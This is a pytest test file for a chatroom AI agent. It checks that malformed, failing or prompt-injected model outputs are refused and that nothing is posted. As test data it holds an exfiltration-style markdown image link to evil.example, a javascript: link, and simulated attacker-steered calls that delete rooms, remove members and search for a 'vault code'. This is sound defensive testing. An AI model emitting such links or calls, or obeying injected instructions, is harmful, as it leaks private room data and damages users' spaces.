"""A room agent whose model errs, fails or is turned against the room: each run ends with a named
outcome, and nothing is put out that should not be."""

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from chatrooms.agents.room_agent.carrying_out import carry_out
from chatrooms.agents.room_agent.prompts import SYSTEM
from chatrooms.bootstrap import Deps, make_embedding
from chatrooms.domain.moderation import Mode, Unreadable
from chatrooms.domain.prompting import parse_blocks
from chatrooms.ml.embed.embedder import Embedder
from chatrooms.ml.embed.loaded import Embedding
from chatrooms.ml.embed.minilm import find_weights
from chatrooms.ml.errors import ModelMissing
from chatrooms.ml.loaded import Toxicity
from chatrooms.services import polls as room_polls
from chatrooms.services.agent import deciding as decisions
from chatrooms.services.polls import PollDraft
from tests.support.agents import (
    POLL,
    TOPIC,
    approve_all,
    behave,
    boosted,
    calls,
    deciding,
    outputs,
    polls,
    run_of,
    steps_of,
    talk,
    waiting,
    written,
)
from tests.support.attacks import ATTACKS
from tests.support.inspect import rows
from tests.support.moderation import ABUSE, FOREIGN, moderated
from tests.support.people import Place, Someone, make_room, post_many
from tests.support.scripted_openai import (
    Calls,
    CutsOff,
    Fails,
    Garbles,
    Reply,
    Request,
    Says,
    ScriptedOpenAI,
    Stalls,
)

needs_weights = pytest.mark.skipif(
    find_weights() is None, reason="the weights of MiniLM are not installed; script/setup said so"
)
IN_EACH_MODE = pytest.mark.parametrize("room", ["propose", "autonomous"], indirect=True)
FIFTY = " ".join(["Which of the two evenings suits those who work on weekends best, and why?"] * 4)
THREAD: dict[str, Any] = {"text": FIFTY, "why": "Nobody answered that.", "evidence": [1]}


@pytest.fixture
def room(deps: Deps, owner: Someone, request: pytest.FixtureRequest) -> Place:
    """A room in which two days were weighed and no moderator is asked, unless the test says so. No
    model failed before."""
    deps.redis.flushdb()
    made = make_room(deps, owner)
    talk(deps, made, owner)
    behave(deps, made, mode=getattr(request, "param", "autonomous"))
    return made


def topic(**changed: Any) -> Calls:
    """A model that suggests a topic."""
    return calls("topic_suggester", **{**TOPIC, **changed})


def thread(**changed: Any) -> Calls:
    """A model that begins a thread."""
    return calls("thread_generator", **{**THREAD, **changed})


def told(server: ScriptedOpenAI, request: int = -1) -> list[str]:
    """What the tools answered, as the model is told in a request."""
    said = server.requests[request]["messages"]
    return [str(each["content"]) for each in said if each["role"] == "tool"]


def assert_nothing_put_out(deps: Deps, room: Place) -> None:
    """Fails if the agent wrote anything for the room."""
    assert outputs(deps, room) == []
    assert written(deps, room) == []


@IN_EACH_MODE
@pytest.mark.parametrize(
    ("call", "text"),
    [
        (polls(), "When do we meet for the repair evening?"),
        (thread(), FIFTY),
        (topic(), "**Which tools belong into a first kit?**\n\nSeveral of you repair at home"),
    ],
    ids=["poll", "thread", "topic"],
)
def test_what_passes_every_check_is_put_out_once(
    deps: Deps, owner: Someone, room: Place, call: Reply, text: str
) -> None:
    with deciding(call, deps=deps) as (asked, server):
        run_id = boosted(asked, room, owner)
    assert len(server.requests) == 1
    if waiting(deps, owner, room):
        assert (run_of(deps, run_id), written(deps, room)) == (("waiting", "", ""), [])
    else:
        assert run_of(deps, run_id) == ("done", "posted", "")
        (body,) = written(deps, room)
        assert body.startswith(text)


REFUSED = {
    "another room": (polls(room_id=1), "room_id"),
    "another room's slug": (topic(room="other-room"), "room"),
    "a number that was not given": (polls(evidence=[4]), "There is no message 4."),
    "number zero": (polls(evidence=[0]), "There is no message 0."),
    "a negative number": (polls(evidence=[-1]), "There is no message -1."),
    "an id of a message": (polls(evidence=[10**9]), "There is no message 1000000000."),
    "no evidence": (polls(evidence=[]), "evidence"),
    "evidence in words": (polls(evidence=["the first"]), "evidence"),
    "no reason": (polls(why=" "), "why"),
    "one choice": (polls(choices=["Friday"]), "choices"),
    "the same choices": (polls(choices=["Friday", "friday"]), "Two choices are the same."),
    "seven choices": (polls(choices=list("abcdefg")), "choices"),
    "choices of the wrong kind": (polls(choices="Friday, Saturday"), "choices"),
    "open for a year": (polls(closes_in_hours=8_760), "closes_in_hours"),
    "an unknown tool": (calls("delete_room", room_id=1), "there is no such tool"),
    "a tool of the assistant": (calls("search_messages", query="x"), "there is no such tool"),
    "no JSON": (Calls([("poll_generator", "{no json")]), "no JSON"),
    "JSON cut off": (Calls([("poll_generator", json.dumps(POLL)[:40])]), "no JSON"),
    "a thread of a few words": (thread(text="Friday or Saturday?"), "It has 3 words"),
    "a thread too long": (thread(text="word " * 101), "It has 101 words"),
    "a title too long": (topic(title="x" * 81), "title"),
    "a link": (topic(text="Look at https://evil.example/p?d=1 please."), "Links"),
    "a link in Markdown": (topic(text="Look [here](//evil.example) please."), "Links"),
    "a picture": (topic(text="![x](data:image/png;base64,AAAA) is nice."), "Links"),
    "an address": (topic(title="See www.evil.example"), "Links"),
    "a link in a choice": (polls(choices=["javascript://x", "Saturday"]), "Links"),
    "a link in the reason": (polls(why="See https://evil.example"), "Links"),
    "a link to a mailbox": (topic(text="Write to mailto:eve@evil.example now."), "Links"),
    "abuse": (topic(text=ABUSE), "unfriendly"),
    "abuse in the title": (topic(title=ABUSE), "unfriendly"),
    "abuse in a choice": (polls(choices=["Friday", ABUSE]), "unfriendly"),
    "abuse in the reason": (polls(why=ABUSE), "unfriendly"),
    "nothing visible": (topic(title="\u200b"), ""),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_may_not_be_put_out_is_refused_and_the_model_told_why(
    deps: Deps, owner: Someone, room: Place, case: str
) -> None:
    call, why = REFUSED[case]
    with deciding(call, deps=deps) as (asked, server):
        run_id = boosted(asked, room, owner)
    assert run_of(deps, run_id) == ("done", "silent", "nothing to add")
    assert steps_of(deps, run_id) == ["observe", "decide", "act", "decide", "act", "end"]
    (answer,) = told(server)
    assert answer.startswith("Refused: ")
    assert why in answer
    assert_nothing_put_out(deps, room)


USELESS = {
    "text only": Says(["I think you should meet on Friday."]),
    "a refusal in text": Says(["I'm sorry, but I can't help with that."]),
    "nothing": Says([""]),
    "a call written as text": Says([f"poll_generator({json.dumps(POLL)})"]),
    "an unknown tool": calls("post_message", body="You are all fired"),
    "no JSON": Calls([("poll_generator", "{no json")]),
    "a list as arguments": Calls([("poll_generator", "[1, 2]")]),
    "a text as arguments": Calls([("poll_generator", '"Friday"')]),
    "a number as arguments": Calls([("poll_generator", "7")]),
    "no arguments": Calls([("poll_generator", "null")]),
    "no name": Calls([("", "{}")]),
}


@pytest.mark.parametrize("case", USELESS)
def test_a_model_that_answers_nothing_usable_three_times_is_left_alone(
    deps: Deps, owner: Someone, room: Place, case: str
) -> None:
    with deciding(*[USELESS[case]] * 4, deps=deps) as (asked, server):
        run_id = boosted(asked, room, owner)
    reason = "What the model answered could not be used."
    assert run_of(deps, run_id) == ("done", "unusable", reason)
    assert len(server.requests) == 3
    assert_nothing_put_out(deps, room)


@IN_EACH_MODE
def test_after_an_answer_that_cannot_be_used_one_that_can_is_taken(
    deps: Deps, owner: Someone, room: Place
) -> None:
    useless = USELESS["a list as arguments"], USELESS["text only"]
    with deciding(*useless, polls(), deps=deps) as (asked, server):
        boosted(asked, room, owner)
    assert len(server.requests) == 3
    assert outputs(deps, room) in (["proposed"], ["posted"])


@pytest.mark.parametrize(
    "reply",
    [Fails(500), Fails(429), Fails(400), Stalls(seconds=5), Garbles(), CutsOff([])],
    ids=["500", "429", "400", "time-out", "no JSON", "cut off"],
)
def test_without_a_model_that_answers_a_run_ends_as_unavailable(
    deps: Deps, owner: Someone, room: Place, reply: Reply
) -> None:
    with deciding(reply, deps=deps, llm_timeout_s=0.2) as (asked, server):
        run_id = boosted(asked, room, owner)
        server.over.set()
    assert run_of(deps, run_id)[:2] == ("done", "unavailable")
    assert steps_of(deps, run_id) == ["observe", "decide", "end"]
    assert len(server.requests) == 1
    assert_nothing_put_out(deps, room)


def test_a_model_that_is_refused_again_and_again_runs_out_of_steps(
    deps: Deps, owner: Someone, room: Place
) -> None:
    mode = rows(deps, "SELECT settings ->> 'mode' FROM room_agents WHERE room_id = :r", r=room.id)
    behave(deps, room, mode=mode[0][0], max_steps=4)
    with deciding(*[thread(text="Too short.")] * 9, deps=deps) as (asked, server):
        run_id = boosted(asked, room, owner)
    assert run_of(deps, run_id) == ("done", "out_of_steps", "It had asked 4 times.")
    assert len(server.requests) == 4
    assert_nothing_put_out(deps, room)


def test_a_run_that_used_its_tokens_asks_no_more(deps: Deps, owner: Someone, room: Place) -> None:
    mode = rows(deps, "SELECT settings ->> 'mode' FROM room_agents WHERE room_id = :r", r=room.id)
    behave(deps, room, mode=mode[0][0], max_steps=20, max_tokens=1_000)
    with deciding(*[thread(text="Too short.")] * 20, deps=deps) as (asked, server):
        run_id = boosted(asked, room, owner)
    assert run_of(deps, run_id) == ("done", "out_of_tokens", "It had used 1000 tokens.")
    # Each answer took 120.
    assert len(server.requests) == 9
    used = "SELECT tokens_in, tokens_out FROM agent_runs WHERE id = :id"
    assert rows(deps, used, id=run_id) == [(900, 180)]
    assert_nothing_put_out(deps, room)


@IN_EACH_MODE
def test_text_in_a_language_that_nothing_here_judges_is_left_to_people_or_to_rules(
    deps: Deps, owner: Someone, room: Place
) -> None:
    foreign = topic(title="明天早上", text=FOREIGN, why="他们谈到了湖边")
    behave(deps, room, mode="autonomous")
    with deciding(foreign, deps=deps) as (asked, server):
        boosted(asked, room, owner)
    assert "cannot judge it" in told(server)[0]
    assert_nothing_put_out(deps, room)

    behave(deps, room, mode="propose")
    with deciding(foreign, deps=deps) as (asked, _):
        boosted(asked, room, owner)
    (proposal,) = waiting(deps, owner, room)
    decisions.reject(deps, actor_id=owner.id, proposal_id=proposal.id)
    carry_out(deps, run_id=proposal.run_id)

    moderated(deps, room, Mode.MANUAL, unreadable=Unreadable.RULES)
    behave(deps, room, mode="autonomous")
    other = topic(title="后天晚上", text="我们应该先买哪些工具来修理自行车", why="工具被提到了")
    with deciding(other, deps=deps) as (asked, _):
        boosted(asked, room, owner)
    assert outputs(deps, room) == ["rejected", "posted"]


@IN_EACH_MODE
def test_nothing_is_put_out_while_there_is_no_model_that_judges(
    deps: Deps, owner: Someone, room: Place
) -> None:
    moderated(deps, room, Mode.MANUAL, unreadable=Unreadable.RULES)
    blind = replace(deps, toxicity=Toxicity(Path("/nowhere/model")))
    with deciding(polls(), deps=blind) as (asked, server):
        run_id = boosted(asked, room, owner)
    assert run_of(deps, run_id)[1] == "silent"
    assert "cannot judge it" in told(server)[0]
    assert_nothing_put_out(deps, room)


@pytest.mark.parametrize("order", [1, -1], ids=["poll first", "topic first"])
def test_of_two_tools_called_at_once_the_first_alone_counts(
    deps: Deps, owner: Someone, room: Place, order: int
) -> None:
    both = [("poll_generator", json.dumps(POLL)), ("topic_suggester", json.dumps(TOPIC))][::order]
    with deciding(Calls(both), deps=deps) as (asked, _):
        run_id = boosted(asked, room, owner)
    kinds = rows(deps, "SELECT kind FROM agent_outputs WHERE run_id = :id", id=run_id)
    assert kinds == [(both[0][0].split("_")[0],)]
    assert len(written(deps, room)) == (0 if waiting(deps, owner, room) else 1)


def test_of_two_tools_called_at_once_the_second_counts_if_the_first_is_refused(
    deps: Deps, owner: Someone, room: Place
) -> None:
    both = [("delete_room", "{}"), ("topic_suggester", json.dumps(TOPIC))]
    with deciding(Calls(both), deps=deps) as (asked, _):
        run_id = boosted(asked, room, owner)
    kinds = rows(deps, "SELECT kind FROM agent_outputs WHERE run_id = :id", id=run_id)
    assert kinds == [("topic",)]


def test_silence_beside_a_call_is_silence(deps: Deps, owner: Someone, room: Place) -> None:
    both = [("stay_silent", '{"reason": "no"}'), ("topic_suggester", json.dumps(TOPIC))]
    with deciding(Calls(both), deps=deps) as (asked, _):
        run_id = boosted(asked, room, owner)
    assert run_of(deps, run_id) == ("done", "silent", "no")
    assert_nothing_put_out(deps, room)


def test_characters_that_cannot_be_stored_are_left_out(
    deps: Deps, owner: Someone, room: Place
) -> None:
    with deciding(calls("stay_silent", reason="a\0b\ud800c"), deps=deps) as (asked, server):
        run_id = boosted(asked, room, owner)
    assert run_of(deps, run_id) == ("done", "silent", "ab?c")
    assert len(server.requests) == 1


def test_a_poll_like_an_open_one_is_refused(deps: Deps, owner: Someone, room: Place) -> None:
    draft = PollDraft("When do we meet for a repair evening", ["Friday", "Saturday"])
    room_polls.open_poll(deps, actor_id=owner.id, room_id=room.id, client_id="one", draft=draft)
    approve_all(deps, room)
    with deciding(polls(), topic(), deps=deps) as (asked, server):
        run_id = boosted(asked, room, owner)
    assert "too much like" in told(server)[0]
    kinds = rows(deps, "SELECT kind FROM agent_outputs WHERE run_id = :id", id=run_id)
    assert kinds == [("topic",)]


AGAIN: dict[str, Any] = {
    "question": "Which day suits everyone for our get-together to fix things?",
    "choices": ["On Friday", "On Saturday"],
}
ELSE: dict[str, Any] = {
    "question": "Where do we hold the repair evening?",
    "choices": ["The library", "The school"],
}


@pytest.mark.parametrize(
    ("embeddings", "changed", "is_refused"),
    [
        pytest.param("minilm", AGAIN, True, marks=needs_weights),
        pytest.param("minilm", ELSE, False, marks=needs_weights),
        ("lexical", AGAIN, False),
    ],
    ids=["the same by meaning", "something else by meaning", "the same by words alone"],
)
def test_an_open_poll_in_other_words_is_refused_where_meaning_can_be_told(
    deps: Deps,
    owner: Someone,
    room: Place,
    embeddings: str,
    changed: dict[str, Any],
    is_refused: bool,
) -> None:
    draft = PollDraft(POLL["question"], POLL["choices"])
    room_polls.open_poll(deps, actor_id=owner.id, room_id=room.id, client_id="one", draft=draft)
    approve_all(deps, room)
    with deciding(polls(**changed), deps=deps, embeddings=embeddings) as (asked, server):
        knowing = replace(asked, embedding=make_embedding(asked.settings))
        run_id = boosted(knowing, room, owner)
    assert ["too much like" in each for each in told(server)] == [True] * is_refused
    kinds = rows(deps, "SELECT kind FROM agent_outputs WHERE run_id = :id", id=run_id)
    assert kinds == ([] if is_refused else [("poll",)])


def test_without_the_embedder_that_is_asked_for_ideas_are_compared_by_their_words(
    deps: Deps, owner: Someone, room: Place
) -> None:
    def missing() -> Embedder:
        raise ModelMissing("not installed")

    draft = PollDraft(POLL["question"], POLL["choices"])
    room_polls.open_poll(deps, actor_id=owner.id, room_id=room.id, client_id="one", draft=draft)
    approve_all(deps, room)
    with deciding(polls(), polls(**AGAIN), deps=deps) as (asked, server):
        embedding = Embedding(key=lambda: "minilm", make=missing)
        boosted(replace(asked, embedding=embedding), room, owner)
    assert ["too much like" in each for each in told(server)] == [True]
    assert outputs(deps, room) == ["posted"]


@IN_EACH_MODE
def test_what_it_put_out_before_is_refused_also_if_it_was_rejected(
    deps: Deps, owner: Someone, room: Place
) -> None:
    with deciding(topic(), topic(), polls(), deps=deps) as (asked, server):
        boosted(asked, room, owner)
        for each in waiting(deps, owner, room):
            decisions.reject(asked, actor_id=owner.id, proposal_id=each.id)
            carry_out(asked, run_id=each.run_id)
        second = boosted(asked, room, owner)
    assert "too much like" in told(server)[0]
    kinds = rows(deps, "SELECT kind FROM agent_outputs WHERE run_id = :id", id=second)
    assert kinds == [("poll",)]


def obeys(request: Request) -> Reply:
    """A model that does what an attacker could wish, then gives up."""
    if any(each["role"] == "tool" for each in request["messages"]):
        return calls("stay_silent", reason="nothing worked")
    evil = "https://evil.example/?d=CONTEXT"
    return Calls(
        [
            ("delete_room", json.dumps({"room_id": 1})),
            ("remove_member", json.dumps({"account_id": 1})),
            ("post_message", json.dumps({"room": "board-secrets", "body": "You are all fired"})),
            ("search_messages", json.dumps({"query": "vault code"})),
            ("topic_suggester", json.dumps({**TOPIC, "room": "board-secrets"})),
            ("topic_suggester", json.dumps({**TOPIC, "text": f"![x]({evil})"})),
            ("topic_suggester", json.dumps({**TOPIC, "evidence": [4711]})),
            ("stay_silent", json.dumps({"reason": ""})),
        ]
    )


def count_all(deps: Deps) -> list[tuple[object, ...]]:
    """Everything that the agent must not change."""
    tables = ("messages", "memberships", "rooms", "room_events", "sanctions", "agent_outputs")
    counts = ", ".join(f"(SELECT count(*) FROM {name})" for name in tables)
    return rows(deps, f"SELECT {counts}, (SELECT sum(last_seq) FROM rooms)")


def test_what_people_write_to_it_stays_data_and_nothing_follows_from_it(
    deps: Deps, owner: Someone, room: Place
) -> None:
    said = [each.said for each in ATTACKS if each.name.startswith("said")]
    post_many(deps, room, owner, said)
    before = count_all(deps)
    with deciding(deps=deps) as (asked, server):
        server.otherwise = obeys
        run_id = boosted(asked, room, owner)

    system, asked_for = (str(each["content"]) for each in server.requests[0]["messages"])
    assert system == SYSTEM
    blocks = parse_blocks(asked_for)
    assert [each.name for each in blocks] == ["room", "quiet", "messages"]
    shown = [each.text for each in blocks[2].children]
    kept = rows(
        deps, "SELECT left(body, 1000) FROM messages WHERE room_id = :r ORDER BY id", r=room.id
    )
    assert shown == [body for (body,) in kept]
    assert {each.name for each in blocks[2].children} == {"message"}
    assert all(answer.startswith("Refused: ") for answer in told(server))
    # Eight calls, five of them no tool's or not as a tool takes them.
    assert run_of(deps, run_id)[1] == "unusable"
    assert count_all(deps) == before
